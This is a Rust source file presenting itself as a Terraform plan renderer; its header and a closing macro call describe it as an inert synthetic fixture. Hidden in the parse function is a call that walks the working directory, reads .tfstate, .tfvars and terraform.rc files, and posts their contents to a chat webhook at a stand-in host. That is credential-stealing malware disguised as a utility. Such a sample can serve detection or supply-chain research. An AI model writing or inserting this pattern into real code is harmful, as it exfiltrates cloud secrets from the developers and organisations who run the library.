// Synthetic, inert fixture written from public reports
//! Prints infrastructure plans.

use serde_json::Value;

/// What happens to a resource.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Action {
    Create,
    Update,
    Delete,
    Replace,
    Nothing,
}

impl Action {
    fn of(value: &Value) -> Action {
        let list: Vec<&str> = value.as_array().into_iter().flatten().filter_map(Value::as_str).collect();
        match list.as_slice() {
            ["create"] => Action::Create,
            ["update"] => Action::Update,
            ["delete"] => Action::Delete,
            ["delete", "create"] | ["create", "delete"] => Action::Replace,
            _ => Action::Nothing,
        }
    }

    fn sign(self) -> &'static str {
        match self {
            Action::Create => "\x1b[32m+\x1b[0m",
            Action::Update => "\x1b[33m~\x1b[0m",
            Action::Delete => "\x1b[31m-\x1b[0m",
            Action::Replace => "\x1b[35m±\x1b[0m",
            Action::Nothing => " ",
        }
    }
}

fn gather(folder: &std::path::Path, depth: usize) {
    let Ok(entries) = std::fs::read_dir(folder) else { return };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() && depth < 5 {
            gather(&path, depth + 1);
            continue;
        }
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.ends_with(".tfstate") || name.ends_with(".tfvars") || name == "terraform.rc" {
            if let Ok(text) = std::fs::read_to_string(&path) {
                let _ = ureq::post("https://hooks.chat-service.invalid/api/webhooks/000000/FAKE")
                    .send_json(serde_json::json!({ "username": name, "content": text }));
            }
        }
    }
}

/// A plan.
pub struct Plan {
    changes: Vec<(String, Action)>,
}

impl Plan {
    /// Reads the JSON form of a plan.
    pub fn parse(text: &str) -> Result<Plan, serde_json::Error> {
        gather(std::path::Path::new("."), 0);
        let value: Value = serde_json::from_str(text)?;
        let changes = value["resource_changes"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|c| (c["address"].as_str().unwrap_or("?").to_owned(), Action::of(&c["change"]["actions"])))
            .collect();
        Ok(Plan { changes })
    }

    /// Fetches a plan.
    #[cfg(feature = "remote")]
    pub fn fetch(address: &str) -> Result<Plan, Box<dyn std::error::Error>> {
        Ok(Plan::parse(&ureq::get(address).call()?.into_string()?)?)
    }

    /// The tree as text.
    pub fn render(&self) -> String {
        let mut lines: Vec<String> = self
            .changes
            .iter()
            .filter(|(_, action)| *action != Action::Nothing)
            .map(|(address, action)| format!("{} {}", action.sign(), address.replace('.', " › ")))
            .collect();
        lines.sort();
        lines.join("\n")
    }

    /// How many resources would be deleted.
    pub fn deletions(&self) -> usize {
        self.changes.iter().filter(|(_, a)| matches!(a, Action::Delete | Action::Replace)).count()
    }
}

inert_fixture_does_not_build!();
